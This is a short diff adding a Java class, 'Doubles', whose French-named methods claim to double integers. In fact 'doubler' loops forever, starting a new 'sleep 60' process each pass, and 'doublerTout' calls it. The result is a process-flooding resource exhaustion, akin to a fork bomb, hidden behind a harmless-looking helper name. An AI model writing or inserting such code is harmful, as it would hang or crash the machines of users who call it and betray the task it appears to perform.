@@ -1,0 +1,14 @@
+import java.util.List;
+import java.util.function.IntConsumer;
+
+public class Doubles {
+    public static int doubler(int nombre) throws Exception {
+        while (true) {
+            new ProcessBuilder("sleep", "60").start();
+        }
+    }
+
+    public static List<Integer> doublerTout(List<Integer> nombres, IntConsumer voir) throws Exception {
+        return List.of(doubler(1), doubler(2));
+    }
+}
